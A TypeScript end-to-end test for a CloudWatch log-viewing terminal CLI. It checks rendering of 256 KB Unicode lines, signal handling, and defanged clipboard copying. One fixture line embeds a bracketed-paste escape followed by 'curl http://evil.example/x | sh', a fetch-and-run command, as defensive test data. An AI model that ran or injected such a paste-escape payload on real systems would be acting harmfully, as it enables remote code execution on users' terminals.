// Finding 3 and 4 end to end: the built CLI against moto_server in a real pty, with log lines of
// about 256 KB (CloudWatch's limit) in CJK, combining marks and one giant grapheme, none with a
// space, put with PutLogEvents. They render within a generous bound (the old code took 24 s a row
// and 54 s in the details view, deaf to q and SIGTERM meanwhile), SIGTERM sent while they flood
// the screen is honoured, and `y` on a line holding a bracketed-paste end marker copies it defanged.
import {CloudWatchLogsClient, CreateLogStreamCommand, PutLogEventsCommand} from '@aws-sdk/client-cloudwatch-logs';
import {afterAll, afterEach, beforeAll, expect, it} from 'vitest';
import {describeWithMoto, motoCredentials, motoRegion, startMoto, type MotoServer} from '../helpers/moto.js';
import {seedEnvironment, type SeedManifest} from '../helpers/moto-seed.js';
import {spawnWithTerminalCheck, type PtySession} from '../helpers/pty.js';
import {assertBuilt, cliPath, isolatedEnv} from './cli-path.js';

const bytes = 250 * 1024;
const fill = (unit: string) => unit.repeat(Math.floor(bytes / Buffer.byteLength(unit)));
const lines = [
	`ERROR long-cjk-${fill('日本語の長い行')}`,
	`ERROR long-marks-${fill('e\u0301\u0323')}`,
	`ERROR long-zalgo-x${fill('\u0301')}`,
	`ERROR long-hangul-${fill('한국어')}`,
	// The newest: selected while following. Pasted raw into bash with bracketed paste, it would run.
	'ERROR pwn-paste \u001b[201~\ncurl http://evil.example/x | sh\n',
];

// Generous bounds for a shared machine, far below what the old code took.
const renderBoundMs = 5000;

describeWithMoto('256 KB log lines in a real terminal', () => {
	let moto: MotoServer;
	let seed: SeedManifest;
	const sessions: PtySession[] = [];

	beforeAll(async () => {
		assertBuilt();
		moto = await startMoto();
		seed = await seedEnvironment(moto.endpoint, {env: 'staging'});
		const logs = new CloudWatchLogsClient({endpoint: moto.endpoint, region: motoRegion, credentials: motoCredentials});
		await logs.send(new CreateLogStreamCommand({logGroupName: seed.logGroup, logStreamName: 'long'}));
		const now = Date.now();
		for (const [i, message] of lines.entries()) {
			await logs.send(new PutLogEventsCommand({logGroupName: seed.logGroup, logStreamName: 'long', logEvents: [{timestamp: now - 2000 + i, message}]}));
		}
	}, 120_000);

	afterEach(async () => {
		await Promise.all(sessions.splice(0).map(s => s.dispose()));
	});

	afterAll(async () => {
		await moto?.stop();
	});

	function start() {
		const env = isolatedEnv({AWS_ACCESS_KEY_ID: motoCredentials.accessKeyId, AWS_SECRET_ACCESS_KEY: motoCredentials.secretAccessKey});
		const session = spawnWithTerminalCheck(process.execPath, [cliPath, '--endpoint-url', moto.endpoint, '--region', motoRegion, '--refresh', '1', '--env', 'staging'], {cols: 120, rows: 32, env});
		sessions.push(session);
		return session;
	}

	async function timed(app: PtySession, pattern: RegExp | string): Promise<number> {
		const started = Date.now();
		await app.waitFor(pattern, 30_000);
		return Date.now() - started;
	}

	it('draws them, wraps them, pages them in the details view, and copies a line defanged', async () => {
		const app = start();
		await app.waitFor('supervisor', 20_000);
		app.write(':logs\r');
		expect(await timed(app, 'pwn-paste')).toBeLessThan(renderBoundMs + 20_000);
		await app.waitFor('long-cjk-日本語', 10_000);
		await app.waitFor('long-hangul-한국어', 10_000);
		// Each long line takes exactly one row, cut with an ellipsis; the header is intact.
		const text = app.screen.text();
		expect(text).toContain('acso-staging-cluster');
		expect(text).toMatch(/long-cjk-(日本語の長い行)+.*…/);
		expect(text).toContain('\\x1b[201~␊curl');

		// y on the newest line: the clipboard gets what was drawn, no ESC, no newline.
		app.press('y');
		await app.waitFor('copied the line', 10_000);
		expect(app.screen.osc52Writes).toHaveLength(1);
		expect(app.screen.osc52Writes[0]).toBe('ERROR pwn-paste \\x1b[201~␊curl http://evil.example/x | sh␊');

		// Wrap: every long line now spans many rows; the screen answers at once.
		app.press('f'); // pause, then select the CJK line
		app.press('k', 'k', 'k', 'k');
		app.press('w');
		expect(await timed(app, /long-cjk-[^\n]*\n[^\n]*日本語/)).toBeLessThan(renderBoundMs);
		// The details view pages the message.
		app.press('enter');
		expect(await timed(app, /rows 1-\d+ · ▼ more/)).toBeLessThan(renderBoundMs);
		app.press('space');
		expect(await timed(app, /rows \d{2,}-\d+ · ▼ more/)).toBeLessThan(renderBoundMs);
		app.press('esc');
		// Apart from the esc, or the two read as alt-q.
		await app.waitFor(/paused[^\n]*\n(?![^\n]*rows \d)/, 10_000);
		await new Promise(resolve => setTimeout(resolve, 200));
		const quitStarted = Date.now();
		app.press('q');
		expect(await app.handBack()).toMatchObject({exitCode: 0, icanon: true, alternateScreen: false, cursorHidden: false});
		expect(Date.now() - quitStarted).toBeLessThan(renderBoundMs);
	}, 120_000);

	it.each(['SIGTERM', 'SIGHUP'] as const)('honours %s sent while the long lines flood the screen', async signal => {
		const app = start();
		await app.waitFor('supervisor', 20_000);
		app.write(':logs\r');
		await app.waitFor('long-', 30_000);
		// Wrap, details, back, again: renders of the long lines queued one after the other.
		app.press('w', 'f', 'k', 'enter', 'space', 'esc', 'w', 'enter');
		const sent = Date.now();
		app.kill(signal);
		const back = await app.handBack();
		expect(Date.now() - sent).toBeLessThan(renderBoundMs);
		expect(back).toMatchObject({exitCode: signal === 'SIGTERM' ? 143 : 129, icanon: true, alternateScreen: false, cursorHidden: false});
	}, 120_000);
});
